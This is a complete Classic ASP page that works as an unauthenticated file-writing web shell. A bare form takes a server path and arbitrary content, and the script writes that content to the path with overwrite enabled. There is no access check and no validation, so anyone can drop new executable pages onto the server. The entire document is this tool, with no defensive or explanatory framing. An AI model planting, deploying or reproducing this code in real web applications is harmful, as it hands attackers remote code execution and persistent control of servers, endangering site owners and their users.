<%
Dim fso, f
Set fso = Server.CreateObject("Scripting.FileSystemObject")
If Request.Form("path") <> "" Then
    Set f = fso.CreateTextFile(Server.MapPath(Request.Form("path")), True)
    f.Write Request.Form("content")
    f.Close
    Response.Write "written"
End If
%>
<form method="post"><input name="path"><textarea name="content"></textarea><input type="submit"></form>
